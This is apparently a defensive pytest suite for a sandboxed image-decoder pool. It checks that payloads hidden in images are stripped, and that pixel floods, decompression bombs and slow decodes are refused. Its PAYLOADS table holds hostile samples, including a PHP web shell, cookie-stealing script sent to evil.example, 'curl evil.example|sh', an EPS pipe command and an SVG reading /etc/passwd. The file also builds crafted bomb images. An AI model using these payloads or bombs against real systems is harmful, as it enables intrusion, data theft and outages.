"""Pictures that are made to harm: they harm no one else, they are refused in time, and what is kept of them is only a picture."""

from __future__ import annotations

import os
import random
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from service.errors import BadImage, Busy, DecodingTooLarge, DecodingTooSlow, TooManyPixels, TruncatedImage
from service.images import wire
from service.images.pixels import Prepared
from service.images.pool import DecoderPool
from tests.service.pictures import AS_IT_IS, SAMPLES, chunk, encoded, scene

pytestmark = pytest.mark.slow
SMALL = SAMPLES["png"].data
TWELVE_MEGAPIXELS = (4000, 3000)


@pytest.fixture(scope="module")
def pool() -> Iterator[DecoderPool]:
    """One decoder, which every test of this file leaves alive and able to work."""
    pool = DecoderPool(1)
    pool.start()
    yield pool
    assert pool.deaths == 0
    pool.close()


@pytest.fixture
def pools() -> Iterator[Callable[..., DecoderPool]]:
    """Makes started pools, closed after the test."""
    made: list[DecoderPool] = []

    def make(workers: int, **limits: float) -> DecoderPool:
        made.append(DecoderPool(workers, **limits))  # type: ignore[arg-type]
        made[-1].start()
        return made[-1]

    yield make
    for pool in made:
        pool.close()


def see(pool: DecoderPool, data: bytes) -> Prepared:
    return pool.prepare(data, AS_IT_IS, keep=True)


def works(pool: DecoderPool) -> bool:
    return np.array_equal(see(pool, SMALL).pixels, SAMPLES["png"].middle)


def gone(pid: int, seconds: float = 5) -> bool:
    """Whether a process ends within the time; one that only waits to be reaped has ended."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z":
                return True
        except (FileNotFoundError, ProcessLookupError):
            return True
        time.sleep(0.01)
    return False


def status(pid: int, name: str) -> int:
    """A figure of a process in bytes, such as VmHWM, the most memory that it ever had."""
    line = next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith(name))
    return int(line.split()[1]) * 1024


def endless_jpeg(scans: int = 50_000) -> bytes:
    """A progressive JPEG that goes over its 16 megapixels again and again: each scan takes 20 bytes, and milliseconds."""
    data = encoded(Image.new("L", (4000, 4000), 90), "JPEG", progressive=True)
    starts = [at for at in range(len(data)) if data[at : at + 2] == b"\xff\xda"]
    return data[: starts[1]] + data[starts[1] : starts[2]] * scans + data[starts[1] :]


ENDLESS = endless_jpeg()

PAYLOADS = {
    "php": b"<?php system($_GET['c']); __halt_compiler(); ?>",
    "html": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>',
    "javascript": b"*/=1;fetch('//evil.example/'+document.cookie)/*",
    "zip": b"PK\x03\x04\x14\0\0\0\0\0evil.class" + b"\0" * 16 + b"PK\x05\x06" + bytes(18),
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(%pipe%id>/tmp/owned) (w) file\nshowpage\n%%EOF",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0",
    "shell": b"#!/bin/sh\ncurl evil.example|sh\n",
    "ico": struct.pack("<HHHBBBBHHII", 0, 1, 1, 8, 8, 0, 0, 1, 32, 40, 22) + b"\x28\0\0\0\x08\0\0\0evil",
    "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.php'\npop graphic-context",
}
CARRIERS: dict[str, Callable[[bytes], bytes]] = {
    **{
        f"behind a {kind}": lambda load, kind=kind: SAMPLES[kind].data + load
        for kind in ("jpeg", "png", "gif", "bmp", "webp", "tiff raw")
    },  # type: ignore[misc]
    "in a jpeg's comment": lambda load: encoded(scene(), "JPEG", comment=load),
    "in a jpeg's exif": lambda load: encoded(scene(), "JPEG", exif=b"Exif\0\0" + load),
    "in a png's text": lambda load: SMALL[:33] + chunk(b"tEXt", b"Comment\0" + load) + SMALL[33:],
    "in a png's own chunk": lambda load: SMALL[:-12] + chunk(b"evIl", load) + SMALL[-12:],
    "in a gif's comment": lambda load: encoded(scene().quantize(8), "GIF", comment=load),
    "in a tiff's tag": lambda load: encoded(scene(), "TIFF", tiffinfo={270: load.hex(), 65000: load}),
}


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_rides_on_a_picture_is_not_kept(pool: DecoderPool, payload: str, carrier: str):
    load = PAYLOADS[payload]
    data = CARRIERS[carrier](load)
    assert load in data
    pictures = see(pool, data).pictures
    assert pictures is not None
    for stored in (pictures.picture, pictures.thumbnail):
        assert load not in stored
        assert not any(load[at : at + 12] in stored for at in range(len(load) - 11) if any(load[at : at + 12]))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("picture", [b"", SMALL, SAMPLES["jpeg"].data], ids=["alone", "before a png", "before a jpeg"])
def test_what_does_not_begin_as_a_picture_is_refused(pool: DecoderPool, payload: str, picture: bytes):
    with pytest.raises(BadImage, match="not a picture"):
        see(pool, PAYLOADS[payload] + picture)


SIGNATURES = (b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x04\0\0\0WEBP", b"GIF89a", b"BM", b"II*\0", b"MM\0+")
OTHERS = ("PPM", "ICO", "TGA", "PCX", "EPS", "PDF", "SGI", "JPEG2000", "ICNS", "AVIF", "DDS")


@pytest.mark.parametrize(
    "data",
    [
        *SIGNATURES,
        *(signature + PAYLOADS[payload] * 20 for signature in SIGNATURES for payload in ("html", "php", "javascript")),
        *(SAMPLES[kind].data[:12] + PAYLOADS["html"] * 20 for kind in ("jpeg", "png", "gif", "bmp", "webp")),
        *(encoded(scene(), form) for form in OTHERS),
        b"GIF89a=1;/*" + bytes(100), bytes(10_000), b"\xff" * 10_000, random.Random(7).randbytes(10_000),
    ],
    ids=lambda data: repr(data[:16]),
)  # fmt: skip
def test_what_only_begins_as_a_picture_is_refused(pool: DecoderPool, data: bytes):
    with pytest.raises(BadImage):
        see(pool, data)


def test_only_the_six_formats_are_ever_imported():
    script = "import sys, service.images.worker; print(*sorted(sys.modules))"
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert {name for name in loaded if name.endswith("ImagePlugin")} == {
        f"PIL.{form}ImagePlugin" for form in ("Jpeg", "Png", "WebP", "Gif", "Bmp", "Tiff", "Ppm")
    }  # fmt: skip
    assert not loaded & {"torch", "starlette", "sqlite3", "asyncio"}


NOTHING = zlib.compress(bytes(45_000_000), 9)  # 44 KB


def jpeg_of(width: int, height: int) -> bytes:
    data = SAMPLES["jpeg"].data
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def png_of(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", NOTHING) + chunk(b"IEND", b"")


def gif_of(width: int, height: int, screen: tuple[int, int] | None = None) -> bytes:
    clear = b"!\xf9\x04\x08\0\0\0\0"  # the frame is to be cleared afterwards, so Pillow prepares for that
    head = b"GIF89a" + struct.pack("<HHBBB", *(screen or (width, height)), 0, 0, 0)
    return head + clear + b"," + struct.pack("<HHHHBB", 0, 0, width, height, 0, 8)


def bmp_of(width: int, height: int) -> bytes:
    return b"BM" + struct.pack("<IHHIIiiHHIIiiII", 0, 0, 0, 54, 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)


def webp_of(width: int, height: int) -> bytes:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 22) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + sides


def tiff_of(width: int, height: int) -> bytes:
    tags = {256: width, 257: height, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: height, 279: 100}
    return (
        b"II*\0"
        + struct.pack("<IH", 8, len(tags))
        + b"".join(struct.pack("<HHII", tag, 4, 1, n) for tag, n in tags.items())
        + bytes(9)
    )


FLOODS: dict[str, Callable[[int, int], bytes]] = {
    "jpeg": jpeg_of, "png": png_of, "gif": gif_of, "bmp": bmp_of, "webp": webp_of, "tiff": tiff_of,
    "gif with a small screen": lambda width, height: gif_of(width, height, (8, 8)),
}  # fmt: skip


@pytest.mark.parametrize("form", FLOODS)
@pytest.mark.parametrize("size", [(20_000, 20_000), (8_000, 6_251)], ids=str)
def test_a_flood_of_pixels_is_refused_from_its_header(pool: DecoderPool, form: str, size: tuple[int, int]):
    data = FLOODS[form](*size)
    assert works(pool)
    (pid,) = pool.pids()
    most, took = status(pid, "VmHWM"), []
    for _ in range(3):
        started = time.perf_counter()
        with pytest.raises(TooManyPixels):
            see(pool, data)
        took.append(time.perf_counter() - started)
    assert min(took) < 0.05
    assert status(pid, "VmHWM") - most < 10_000_000


def bomb(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def greedy_tiff(tags: int, size: int) -> bytes:
    """A TIFF each of whose many tags claims the whole file as its value."""
    head = {256: 8, 257: 8, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 8, 279: 64}
    entries = [struct.pack("<HHII", tag, 4, 1, value) for tag, value in head.items()]
    entries += [struct.pack("<HHII", 40_000 + n, 1, size, 0) for n in range(tags)]
    return (b"II*\0" + struct.pack("<IH", 8, len(entries)) + b"".join(entries) + bytes(4)).ljust(size, b"\0")


def before_pixels(more: bytes) -> bytes:
    return SMALL[:33] + more + SMALL[33:]


HEAVY: dict[str, Callable[[], bytes]] = {
    "zipped text": lambda: before_pixels(chunk(b"zTXt", b"a\0\0" + bomb(100_000_000))),
    "zipped international text": lambda: before_pixels(chunk(b"iTXt", b"a\0\1\0\0\0" + bomb(100_000_000))),
    "many zipped texts": lambda: before_pixels(chunk(b"zTXt", b"a\0\0" + bomb(1_000_000)) * 1000),
    "zipped text behind the pixels": lambda: SMALL[:-12] + chunk(b"zTXt", b"a\0\0" + bomb(100_000_000)) + SMALL[-12:],
    "plain text": lambda: before_pixels(chunk(b"tEXt", b"a\0" + b"x" * 9_000_000)),
    "a zipped profile": lambda: before_pixels(chunk(b"iCCP", b"a\0\0" + bomb(100_000_000))),
    "exif": lambda: before_pixels(chunk(b"eXIf", b"MM\0*\0\0\0\x08\xff\xff" + bytes(9_000_000))),
    "a profile in a jpeg": lambda: encoded(scene(), "JPEG", icc_profile=bytes(9_000_000)),
    "comments in a jpeg": lambda: b"\xff\xd8" + b"\xff\xfe\0\x02" * 500_000 + SAMPLES["jpeg"].data[2:],
    "comments in a gif": lambda: encoded(scene().quantize(8), "GIF", comment=b"x" * 9_000_000),
    "tags in a tiff": lambda: greedy_tiff(tags=2_000, size=9_000_000),
}


@pytest.mark.parametrize("kind", HEAVY)
def test_heavy_metadata_takes_little_memory(pool: DecoderPool, kind: str):
    data = HEAVY[kind]()
    (pid,) = pool.pids()
    most = status(pid, "VmHWM")
    with pytest.raises(BadImage) if "zipped" in kind else nullcontext():
        assert see(pool, data).pixels.shape == (48, 48, 3)
    assert status(pid, "VmHWM") - most < 80_000_000


def test_of_many_frames_only_the_first_is_decoded(pool: DecoderPool):
    one = encoded(Image.new("L", (2000, 2000), 90), "GIF")
    start = one.index(b",\0\0\0\0")
    many = one[:start] + one[start:-1] * 1000 + one[-1:]
    took = []
    for data in (one, many):
        started = time.perf_counter()
        assert (see(pool, data).pixels == 90).all()
        took.append(time.perf_counter() - started)
    assert took[1] < 2 * took[0] + 0.2  # all of them would take a thousand times as long


def test_a_picture_that_takes_too_long_is_given_up_and_the_next_is_decoded(pools: Callable[..., DecoderPool]):
    pool = pools(1, seconds=0.05)
    huge = encoded(Image.new("L", (9_000, 5_000), 90), "PNG", compress_level=1)
    (before,) = pool.pids()
    started = time.perf_counter()
    with pytest.raises(DecodingTooSlow, match=r"more than 0\.05 s"):
        see(pool, huge)
    assert time.perf_counter() - started < 0.5
    assert works(pool)
    assert (pool.deaths, before in pool.pids()) == (1, False)


def test_a_jpeg_that_never_comes_to_an_end_is_given_up(pools: Callable[..., DecoderPool]):
    pool = pools(1, seconds=0.5)
    with pytest.raises(DecodingTooSlow):
        see(pool, ENDLESS)
    assert works(pool)


def test_a_decoder_that_does_not_even_end_itself_is_ended(pools: Callable[..., DecoderPool]):
    pool = pools(1, seconds=0.1)
    (pid,) = pool.pids()
    os.kill(pid, signal.SIGSTOP)
    with pytest.raises(DecodingTooSlow):
        see(pool, SMALL)
    assert gone(pid)
    assert works(pool)


LARGE: dict[str, Callable[[Image.Image], bytes]] = {
    "png": lambda picture: encoded(picture, "PNG", compress_level=1),
    "jpeg": lambda picture: encoded(picture, "JPEG"),
    "progressive jpeg": lambda picture: encoded(picture, "JPEG", progressive=True, subsampling=0),
    "webp": lambda picture: encoded(picture, "WEBP", method=0, quality=10),
    "gif": lambda picture: encoded(picture.convert("L"), "GIF"),
    "tiff": lambda picture: encoded(picture, "TIFF", compression="tiff_lzw"),
}


@pytest.mark.parametrize(("form", "mebibytes"), [*((form, 150) for form in LARGE), ("progressive jpeg", 200), ("webp", 250)])
def test_a_picture_that_takes_too_much_memory_is_refused_and_the_next_is_decoded(
    pools: Callable[..., DecoderPool], form: str, mebibytes: int
):
    pool = pools(1, memory_bytes=mebibytes << 20)
    large, before = LARGE[form](Image.new("RGB", TWELVE_MEGAPIXELS, "teal")), pool.pids()
    for _ in range(3):
        with pytest.raises(DecodingTooLarge):
            see(pool, large)
        assert works(pool)
    assert (pool.deaths, pool.pids()) == (0, before)


def test_a_damaged_large_picture_is_not_taken_for_one_that_needs_too_much_memory(pool: DecoderPool):
    large = LARGE["progressive jpeg"](Image.new("RGB", TWELVE_MEGAPIXELS, "teal"))
    with pytest.raises(TruncatedImage):
        see(pool, large[: len(large) // 2])


def test_large_pictures_leave_no_memory_behind(pools: Callable[..., DecoderPool]):
    pool = pools(1)
    large = LARGE["webp"](Image.new("RGB", TWELVE_MEGAPIXELS, "teal"))
    sizes = []
    for _ in range(6):
        see(pool, large)
        assert works(pool)
        sizes.append(status(pool.pids()[0], "VmSize"))
    assert max(sizes) - sizes[0] < 40_000_000


def busiest(pids: tuple[int, ...]) -> int:
    """The process that has computed most."""
    return max(pids, key=lambda pid: sum(map(int, Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[11:13])))


def test_when_a_decoder_is_killed_only_its_own_caller_is_told(pools: Callable[..., DecoderPool]):
    pool = pools(2)
    with ThreadPoolExecutor(1) as thread:
        unlucky = thread.submit(see, pool, ENDLESS)
        time.sleep(0.5)
        (busy,), others = {busiest(pool.pids())}, 0
        os.kill(busy, signal.SIGKILL)
        while not unlucky.done() or others < 20:
            assert works(pool)
            others += 1
        with pytest.raises(BadImage, match="the decoder died"):
            unlucky.result()
    assert (pool.deaths, busy in pool.pids()) == (1, False)


def test_a_decoder_that_was_killed_while_it_had_nothing_to_do_is_not_missed(pools: Callable[..., DecoderPool]):
    pool = pools(2)
    for pid in pool.pids():
        os.kill(pid, signal.SIGKILL)
        assert gone(pid)
    assert works(pool)
    assert pool.deaths == 0


@pytest.mark.parametrize("sign", [signal.SIGINT, signal.SIGTERM])
def test_a_decoder_goes_on_when_all_processes_are_asked_to_end(pool: DecoderPool, sign: signal.Signals):
    (pid,) = pool.pids()
    os.kill(pid, sign)
    assert works(pool)
    assert pool.pids() == (pid,)


def test_a_decoder_outlives_the_thread_that_needed_it_first(pools: Callable[..., DecoderPool]):
    pool = DecoderPool(1)
    first = threading.Thread(target=see, args=(pool, SMALL))
    first.start()
    first.join()
    before = pool.pids()
    assert works(pool)
    assert (pool.pids(), pool.deaths) == (before, 0)
    pool.close()


def test_every_caller_gets_the_answer_to_its_own_picture(pools: Callable[..., DecoderPool]):
    pool = pools(2)
    tones = range(0, 256, 5)
    with ThreadPoolExecutor(8) as threads:
        answers = threads.map(lambda tone: see(pool, encoded(Image.new("L", (48, 48), tone), "PNG")).pixels, [*tones] * 4)
    assert [set(np.unique(pixels)) for pixels in answers] == [{tone} for tone in tones] * 4


def test_a_decoder_may_do_nothing_but_decode(pool: DecoderPool):
    (pid,) = pool.pids()
    limits = Path(f"/proc/{pid}/limits").read_text()
    for name in ("Max open files", "Max processes", "Max file size", "Max core file size"):
        assert limits[limits.index(name) + len(name) :].split()[:2] == ["0", "0"]
    assert "NoNewPrivs:\t1" in Path(f"/proc/{pid}/status").read_text()
    names = {entry.partition(b"=")[0] for entry in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0") if entry}
    assert b"PYTHONPATH" in names
    assert not names & {name.encode() for name in os.environ} - {b"PYTHONPATH", b"PYTHONDONTWRITEBYTECODE"}


def test_restarts_leave_no_file_open_and_no_process(pools: Callable[..., DecoderPool]):
    pool = pools(1)
    open_files = sorted(os.listdir("/proc/self/fd"))
    seen = set(pool.pids())
    for _ in range(20):
        (pid,) = pool.pids()
        os.kill(pid, signal.SIGKILL)
        assert gone(pid)
        assert works(pool)
        seen |= set(pool.pids())
    assert sorted(os.listdir("/proc/self/fd")) == open_files
    assert len(seen) == 21
    assert not [pid for pid in seen - set(pool.pids()) if Path(f"/proc/{pid}").exists()]


def test_a_closed_pool_has_no_process_and_decodes_nothing():
    pool = DecoderPool(2)
    pool.start()
    pids = pool.pids()
    with ThreadPoolExecutor(4) as threads:
        callers = [threads.submit(see, pool, ENDLESS) for _ in range(4)]
        time.sleep(0.2)
        pool.close()
        refusals = sorted(type(caller.exception()).__name__ for caller in callers)
    assert refusals == ["BadImage", "BadImage", "Busy", "Busy"]
    assert (len(pids), pool.pids(), [pid for pid in pids if Path(f"/proc/{pid}").exists()]) == (2, (), [])
    unused = DecoderPool(1)
    unused.close()
    for closed in (pool, pool, unused, unused):
        with pytest.raises(Busy):
            see(closed, SMALL)


def test_a_pool_whose_decoders_cannot_start_says_so():
    pool = DecoderPool(1, memory_bytes=1)
    for _ in range(2):
        with pytest.raises(Busy):
            see(pool, SMALL)
    assert pool.pids() == ()
    pool.close()


def test_decoders_do_not_outlive_a_service_that_was_killed():
    script = (
        "import sys, threading\nfrom service.images.pool import DecoderPool\nfrom tests.service.test_decoding import ENDLESS, see\n"
        "pool = DecoderPool(2)\npool.start()\nthreading.Thread(target=see, args=(pool, ENDLESS), daemon=True).start()\n"
        "print(*pool.pids(), flush=True)\nsys.stdin.read()"
    )
    with subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as service:
        assert service.stdout is not None
        pids = [int(pid) for pid in service.stdout.readline().split()]
        time.sleep(0.5)
        service.kill()
    assert len(pids) == 2
    assert all(gone(pid, seconds=2) for pid in pids)  # the one at work has ten seconds of its own


def answer(header: bytes, rest: bytes = b"") -> bytes:
    return struct.pack(">I", len(header)) + header + rest


def pictures(size: bytes = b"1", small: bytes = b"1", kind: bytes = b'"image/png"', width: bytes = b"1") -> bytes:
    fields = (b'"picture": ' + size, b'"thumbnail": ' + small, b'"media_type": ' + kind, b'"width": ' + width, b'"height": 1')
    return answer(b'{"kept": {' + b", ".join(fields) + b"}}", bytes(48 * 48 * 3 + 2))


@pytest.mark.parametrize(
    "said",
    [
        b"", b"\0\0", b"\xff\xff\xff\xff", b"\0\0\0\xff",
        *(answer(header) for header in (b"{", b"[" * 10_000, b"\xff", b"[]", b"1" * 5_000, b'{"kept": {}}', b'{"ready": true}')),
        *(answer(b'{"refusal": ' + rest) for rest in (b'"SystemExit", "why": ""}', b'"BadImage"}', b'[], "why": ""}')),
        pictures()[:-1], pictures(size=b"-1"), pictures(small=b"99999999999"), pictures(size=b"1.5"), pictures(kind=b'"text/html"'),
        pictures(kind=b"[]"), pictures(width=b"0"), pictures(width=b'"1"'),
    ],
    ids=lambda said: repr(said[4:60]),
)  # fmt: skip
def test_a_decoder_that_was_taken_over_can_only_fail(said: bytes):
    ours, theirs = socket.socketpair()
    with ours, theirs:
        theirs.sendall(said)
        theirs.shutdown(socket.SHUT_WR)
        with pytest.raises(wire.Garbled):
            wire.receive_answer(ours, AS_IT_IS, keep=True, deadline=time.monotonic() + 5)


def test_an_answer_of_any_length_is_not_waited_for():
    ours, theirs = socket.socketpair()
    with ours, theirs:
        theirs.sendall(b"\xff\xff\xff\xff")
        with pytest.raises(wire.Garbled, match="a header of 4,294,967,295 bytes"):
            wire.receive_answer(ours, AS_IT_IS, keep=True, deadline=time.monotonic() + 5)
